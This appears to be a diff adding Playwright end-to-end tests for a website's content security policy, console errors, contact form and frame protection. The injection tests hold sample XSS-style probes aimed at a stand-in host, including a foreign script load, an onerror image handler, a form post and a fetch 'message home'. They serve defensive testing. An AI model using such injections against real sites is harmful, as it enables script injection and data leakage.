@@ -1,0 +1,226 @@
+import { expect, type Page, test } from "playwright/test";
+import { scrollThrough, wake, watch } from "@/e2e/support/console-guard";
+import { contactUs, ui } from "@/lib/content/load";
+import { env } from "@/lib/env";
+import { routes } from "@/lib/routes";
+import { href } from "@/lib/with-base-path";
+
+const labels = ui.form.labels;
+
+for (const { path } of routes)
+  test(`nothing on ${path} breaks the policy, whatever is pressed`, async ({
+    page,
+  }) => {
+    const problems = await watch(page);
+    await page.goto(href(path));
+    await wake(page);
+    await scrollThrough(page);
+    await pressEverything(page);
+    await page.waitForLoadState("networkidle");
+    expect(problems).toEqual([]);
+  });
+
+test("the not-found page keeps to the policy", async ({ page }) => {
+  const problems = await watch(page);
+  await page.goto(href("/no-such-page"));
+  await wake(page);
+  await pressEverything(page);
+  const others = problems.filter((problem) => !/status of 404/.test(problem));
+  expect(others).toEqual([]);
+});
+
+test("sending a message keeps to the policy, with the notice and the way to the thank-you page", async ({
+  page,
+}) => {
+  const problems = await watch(page);
+  await page.route(`${env.relayUrl}/send-email`, (route) =>
+    route.fulfill({
+      json: {},
+      headers: { "Access-Control-Allow-Origin": "*" },
+    }),
+  );
+  await page.goto(href("/contact-us"));
+  const form = page.getByRole("form", { name: contactUs.panel.heading });
+  await form.getByLabel(labels.name).fill("Asha Rao");
+  await form.getByLabel(labels.email).fill("asha@example.com");
+  await form.getByLabel(labels.phone).fill("9876543210");
+  await form.getByLabel(labels.message).fill("Hello");
+  await form.getByRole("button", { name: ui.form.submit }).click();
+  await expect(page.getByText(ui.form.toasts.success)).toBeVisible();
+  await expect(page).toHaveURL(/\/thankyou$/);
+  expect(problems).toEqual([]);
+});
+
+test("going from page to page keeps to the policy, brings each page's styles once and reloads none", async ({
+  page,
+}) => {
+  const problems = await watch(page);
+  const styles: string[] = [];
+  page.on("request", (request) => {
+    if (request.resourceType() === "stylesheet") styles.push(request.url());
+  });
+  await page.goto(href("/"));
+  const inlined = await stylesheets(page);
+  await wake(page);
+  expect(styles).toEqual([]);
+  for (const { path } of [...routes, ...routes]) {
+    const link = page.locator(`footer a[href="${href(path)}"]`).first();
+    if (!(await link.count())) continue;
+    await link.click();
+    await expect(page).toHaveURL(new RegExp(`${href(path)}$`));
+    await expect(page.locator("h1")).toBeFocused();
+  }
+  expect(problems).toEqual([]);
+  expect(new Set(styles).size).toBe(styles.length);
+  expect(styles.filter((url) => inlined.includes(url))).toEqual([]);
+});
+
+test("styles that were inlined still hold after the framework took over", async ({
+  page,
+}) => {
+  await page.goto(href("/services"));
+  const before = await looks(page);
+  await wake(page);
+  expect(await looks(page)).toEqual(before);
+});
+
+for (const [name, probe, blocked] of [
+  [
+    "a script of another site",
+    "const s = document.createElement('script'); s.src = 'https://other.test/x.js'; document.head.append(s)",
+    "require-trusted-types-for",
+  ],
+  [
+    "markup with a handler",
+    "document.body.innerHTML = '<img src=x onerror=1>'",
+    "require-trusted-types-for",
+  ],
+  [
+    "text as code",
+    "setTimeout('window.broken = true')",
+    "require-trusted-types-for",
+  ],
+  [
+    "a handler as text",
+    "document.body.setAttribute('onclick', 'window.broken = true')",
+    "require-trusted-types-for",
+  ],
+  [
+    "a base address",
+    "const b = document.createElement('base'); b.href = 'https://other.test/'; document.head.append(b)",
+    "base-uri",
+  ],
+  [
+    "a form to another site",
+    "const f = document.createElement('form'); f.action = 'https://other.test/'; f.method = 'post'; document.body.append(f); f.submit()",
+    "form-action",
+  ],
+  [
+    "a frame",
+    "const f = document.createElement('iframe'); f.src = 'https://other.test/'; document.body.append(f)",
+    "frame-src",
+  ],
+  [
+    "a message home",
+    "fetch('https://other.test/').catch(() => {})",
+    "connect-src",
+  ],
+  [
+    "a picture of another site",
+    "const i = new Image(); i.src = 'https://other.test/x.png'",
+    "img-src",
+  ],
+  [
+    "a style",
+    "const s = document.createElement('style'); s.textContent = 'body{display:none}'; document.head.append(s)",
+    "style-src",
+  ],
+] as const)
+  test(`an injection of ${name} is blocked`, async ({ page }) => {
+    await page.route("https://other.test/**", (route) =>
+      route.fulfill({ body: "window.broken = true" }),
+    );
+    const reached: string[] = [];
+    page.on("response", (response) => reached.push(response.url()));
+    await injected(page, probe);
+    const violated = await page.waitForFunction(
+      () =>
+        (window as { violated?: string[] }).violated?.join(" ") || undefined,
+    );
+    expect(await violated.jsonValue()).toContain(blocked);
+    expect(await page.evaluate(() => "broken" in window)).toBe(false);
+    expect(reached.filter((url) => url.includes("other.test"))).toEqual([]);
+  });
+
+test("the site cannot be put into a frame", async ({ page, baseURL }) => {
+  await page.route("https://other.test/", (route) =>
+    route.fulfill({
+      contentType: "text/html",
+      body: `<iframe src="${new URL(href("/"), baseURL)}"></iframe>`,
+    }),
+  );
+  await page.goto("https://other.test/");
+  await expect
+    .poll(() => page.frames()[1]?.url())
+    .toMatch(/^(chrome-error:|about:)/);
+});
+
+/**
+ * Runs code in the page as a bug in one of its scripts would: the tools' own way of running code is not judged by
+ * the policy, so the code comes as the page's data script, allowed by name and without its integrity.
+ */
+async function injected(page: Page, code: string) {
+  await page.addInitScript(() => {
+    const list: string[] = [];
+    Object.assign(window, { violated: list });
+    document.addEventListener("securitypolicyviolation", (event) =>
+      list.push(event.effectiveDirective),
+    );
+  });
+  await page.route("**/_next/static/flight/probe.js", (route) =>
+    route.fulfill({
+      contentType: "text/javascript",
+      body: `try {${code}} catch {}`,
+    }),
+  );
+  await page.goto(href("/thankyou"));
+  await page.evaluate((src) => {
+    const script = document.createElement("script");
+    script.src = src;
+    document.head.append(script);
+  }, href("/_next/static/flight/probe.js"));
+}
+
+async function pressEverything(page: Page) {
+  const buttons = page.locator("main button:visible, header button:visible");
+  for (let index = 0; index < (await buttons.count()); index += 1) {
+    const button = buttons.nth(index);
+    if (!(await button.isVisible())) continue;
+    await button.click({ timeout: 2_000 }).catch(() => {});
+    await page.keyboard.press("Escape");
+  }
+  for (const summary of await page.locator("summary:visible").all())
+    await summary.click();
+  for (const field of await page
+    .locator("main :is(input, textarea):visible")
+    .all())
+    await field.fill("9");
+}
+
+function stylesheets(page: Page) {
+  return page
+    .locator("link[rel=stylesheet]")
+    .evaluateAll((links) =>
+      links.map((link) => (link as HTMLLinkElement).href),
+    );
+}
+
+function looks(page: Page) {
+  return page.evaluate(() =>
+    [...document.querySelectorAll("h1, h2, main a, footer")].map((element) => {
+      const { color, fontSize, fontFamily, display } =
+        getComputedStyle(element);
+      return [color, fontSize, fontFamily, display].join();
+    }),
+  );
+}
